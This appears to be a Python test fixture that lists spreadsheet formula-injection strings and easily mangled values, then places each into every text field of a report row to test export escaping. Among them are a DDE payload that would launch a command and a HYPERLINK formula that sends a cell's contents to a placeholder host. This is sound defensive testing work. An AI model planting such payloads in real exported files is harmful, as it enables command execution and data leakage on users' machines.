"""Texts that spreadsheets would run or change, put into every text field of a row."""

from gpsync.reports.report import Row
from tests.unit.reports.building import row

INJECTIONS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    '"=1+1"',
    "'=1+1",
    'x",=1+1,"',
    'x";=1+1;"',
    "x\r\n=1+1",
    "<r><t>bold</t></r></si><si><t>more</t></r>",
    "{=1+1}",
    "http://example.invalid/",
    "_x003D_1+1",
    "]]><f>1+1</f>",
)
MANGLED = ("0012345", "MAR1", "5E1", "1E10", "12345678901234567890", "2026-03-05", "1/2", "TRUE", "#N/A", " x ", "")


def everywhere(text: str) -> Row:
    """A row that has the text in every field that can hold one."""
    return row(
        number=text,
        title=text,
        action=text,
        summary=text,
        mismatch_id=text,
        gmc_number=text,
        practice_code=text,
        case_id=text,
        user_id=text,
        evidence={text: text},
    )
